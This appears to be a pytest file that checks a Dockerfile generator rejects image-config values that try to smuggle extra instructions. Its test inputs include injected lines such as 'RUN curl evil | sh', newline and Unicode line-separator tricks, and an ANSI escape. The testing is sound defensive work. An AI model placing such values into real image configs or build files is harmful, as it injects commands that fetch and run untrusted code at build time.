"""The Dockerfile beside the session says what the image's config says, and nothing that somebody put into it."""

from __future__ import annotations

import json

import pytest

from sconify_tasks.errors import UsageError
from sconify_tasks.image.model import BuiltImage
from sconify_tasks.steps.resources import dockerfile


def text(**config) -> str:
    document = {"config": {"Env": [], "Entrypoint": ["/bin/prog"], **config}}
    return dockerfile("scratch", BuiltImage(base_diff_ids=(), layers=(), config=json.dumps(document).encode()))


@pytest.mark.parametrize(
    "config",
    [
        {"User": "root\nRUN curl evil | sh"},
        {"StopSignal": "SIGTERM\nRUN evil"},
        {"ExposedPorts": {"80/tcp\nRUN evil": {}}},
        {"Env": ["A\nRUN evil=1"]},
        {"User": "x\x1b[2J"},
        {"User": "x\u2028RUN evil"},
    ],
    ids=str,
)
def test_no_value_of_an_image_becomes_an_instruction(config):
    with pytest.raises(UsageError, match="Dockerfile"):
        text(**config)


def test_values_of_variables_are_taken_literally():
    assert 'ENV PS1="\\$USER: \\"x\\" é"' in text(Env=['PS1=$USER: "x" é']).splitlines()


def test_a_newline_in_a_variables_value_stays_inside_its_quotes():
    (line,) = (line for line in text(Env=["A=one\nRUN evil"]).splitlines() if "evil" in line)
    assert line == 'ENV A="one\\nRUN evil"'
